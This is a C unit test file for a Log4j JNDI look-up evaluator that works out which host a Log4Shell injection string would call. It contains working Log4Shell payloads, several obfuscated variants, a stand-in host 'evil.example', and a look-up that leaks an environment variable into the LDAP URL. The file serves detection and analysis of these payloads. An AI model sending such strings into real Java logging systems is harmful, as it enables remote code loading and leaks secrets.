/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Log4j look-ups: disguises, defaults, escapes, bounds, and where a JNDI name points. */
#include "emu/language/jndi.h"

#include <setjmp.h>
#include <stdarg.h>
#include <string.h>

#include <cmocka.h>

static const char *home(const void *context, const char *prefix, const char *name)
{
	(void)context;
	return strcmp(prefix, "env") == 0 && strcmp(name, "HOME") == 0 ? "/srv" : NULL;
}

static const struct jndi_facts facts = { .find = home };
static struct jndi_result result;

static void evaluate(const char *message)
{
	jndi_evaluate(bytes_text(message), &facts, &result);
}

static void assert_calls(const char *message, const char *scheme, const char *host, unsigned port)
{
	evaluate(message);
	assert_int_equal(result.stopped_by, STOPPED_EXIT);
	assert_int_equal(result.calls_count, 1);
	assert_string_equal(result.calls[0].scheme, scheme);
	assert_string_equal(result.calls[0].host, host);
	assert_int_equal(result.calls[0].port, port);
}

static void assert_text(const char *message, const char *text)
{
	evaluate(message);
	assert_int_equal(result.text_len, strlen(text));
	assert_memory_equal(result.text, text, strlen(text));
}

static void a_plain_look_up_calls_its_host(void **state)
{
	assert_calls("x ${jndi:ldap://192.0.2.1:1389/a} y", "ldap", "192.0.2.1", 1389);
	assert_int_equal(result.calls[0].address.family, 4);
	assert_calls("${jndi:rmi://evil.example/o=x}", "rmi", "evil.example", 1099);
	assert_int_equal(result.calls[0].address.family, 0);
	assert_calls("${jndi:ldap://[2001:db8::7]:99/a}", "ldap", "2001:db8::7", 99);
	assert_int_equal(result.calls[0].address.family, 6);
	assert_calls("${jndi:ldaps://h}", "ldaps", "h", 636);
}

static void disguises_come_off_by_evaluation(void **state)
{
	assert_calls("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://h:1/a}", "ldap", "h", 1);
	assert_calls("${${lower:J}ndi:${lower:L}dap://h:2/a}", "ldap", "h", 2);
	assert_calls("${j${env:NOTHING:-n}di${sys:none:-:}rmi://h:3/a}", "rmi", "h", 3);
	assert_calls("${jn${lower:${upper:d}}i:dns://r/q.example}", "dns", "r", 53);
	assert_string_equal(result.calls[0].question, "q.example");
	assert_calls("${JNDI:ldap://h:4/${env:HOME}}", "ldap", "h", 4);
	assert_string_equal(result.calls[0].url, "ldap://h:4//srv");
	assert_int_equal(result.unknown_count, 1);
	assert_string_equal(result.unknown[0], "env:HOME");
}

static void what_log4j_leaves_alone_calls_nobody(void **state)
{
	static const char *const messages[] = {
		"$${jndi:ldap://h/a}", "${jndi:ldap://h/a", "${jndi:LDAP://h/a}", "${jndi:gopher://h/a}", "{jndi:ldap://h/a}",
		"${jndi:ldap://}", "$jndi:ldap://h/a}", "${}", "${:}", "}}}}", "${${${", "",
	};

	for (size_t i = 0; i < COUNT_OF(messages); i++) {
		evaluate(messages[i]);
		assert_int_equal(result.calls_count, 0);
	}
}

static void look_ups_without_value_stay_as_they_are(void **state)
{
	assert_text("a ${env:NOTHING} b", "a ${env:NOTHING} b");
	assert_text("a ${env:NOTHING:-c} b", "a c b");
	assert_text("${env:HOME:-x}", "/srv");
	assert_text("${upper:Straight}", "STRAIGHT");
	assert_text("no look-up", "no look-up");
}

static void bounds_end_it_and_say_so(void **state)
{
	static char deep[4 * JNDI_TEXT_MAX];

	for (size_t i = 0; i + 1 < JNDI_TEXT_MAX / 2; i += 2)
		memcpy(deep + i, "${", 2);
	memset(deep + JNDI_TEXT_MAX / 2 - 2, '}', JNDI_TEXT_MAX / 2);
	evaluate(deep);
	assert_int_equal(result.stopped_by, STOPPED_ROUNDS);
	memset(deep, 'a', sizeof(deep) - 1);
	evaluate(deep);
	assert_int_equal(result.stopped_by, STOPPED_MEMORY);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_plain_look_up_calls_its_host),
		cmocka_unit_test(disguises_come_off_by_evaluation),
		cmocka_unit_test(what_log4j_leaves_alone_calls_nobody),
		cmocka_unit_test(look_ups_without_value_stay_as_they_are),
		cmocka_unit_test(bounds_end_it_and_say_so),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
